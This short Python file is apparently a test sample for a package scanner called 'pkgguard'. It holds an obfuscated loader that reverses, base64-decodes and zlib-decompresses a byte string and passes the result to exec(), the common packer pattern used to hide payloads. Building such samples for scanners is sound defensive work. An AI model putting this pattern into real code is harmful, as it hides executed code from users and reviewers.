# pkgguard corpus 211 (packer), modelled on [scanner-heuristics]; inert, never run.
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==w7E08JAQw1RpSLLx8zQF9KMrMKrwJe"))
